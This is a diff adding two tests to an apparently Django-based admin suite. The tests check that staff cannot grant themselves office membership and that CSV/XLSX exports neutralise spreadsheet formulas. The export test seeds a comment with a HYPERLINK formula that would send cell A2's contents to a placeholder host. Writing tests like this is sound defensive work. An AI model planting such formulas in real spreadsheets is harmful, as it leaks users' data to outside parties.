@@ -279,3 +279,32 @@ def test_network_staff_manage_campaigns_but_not_diagnostics(client, network_staf
     assert client.post(url, {"post": "yes"}).status_code == 403
     assert Diagnostic.objects.filter(pk=diagnostic.pk).exists()
     assert client.get(reverse("admin:auth_group_changelist")).status_code == 403
+
+
+def test_network_staff_cannot_become_members_of_an_office(client, network_staff, office):
+    client.force_login(network_staff)
+    response = client.post(
+        reverse("admin:diagnostics_membership_add"),
+        {"user": network_staff.pk, "office": office.pk, "role": "director"},
+    )
+    assert response.status_code == 200  # the form comes back with an error
+    assert not office.memberships.filter(user=network_staff).exists()
+
+
+def test_exported_comments_never_become_formulas(
+    client, network_staff, campaigns, office, director
+):
+    _previous, current = campaigns
+    diagnostic = Diagnostic.objects.create(
+        office=office, campaign=current, questionnaire=current.questionnaire
+    )
+    factories.answer_all(diagnostic)
+    diagnostic.answers.update(comment='=HYPERLINK("https://example.invalid/?"&A2,"voir")')
+    services.diagnostic_submit(diagnostic=diagnostic, user=director)
+    client.force_login(network_staff)
+    rows = read_csv(client.get(export_url("reponses", "csv")))
+    assert rows[1][-1].startswith("'=HYPERLINK")
+    response = client.get(export_url("reponses", "xlsx"))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cell = sheet.cell(row=2, column=10)
+    assert cell.data_type == "s" and cell.value.startswith("'=")
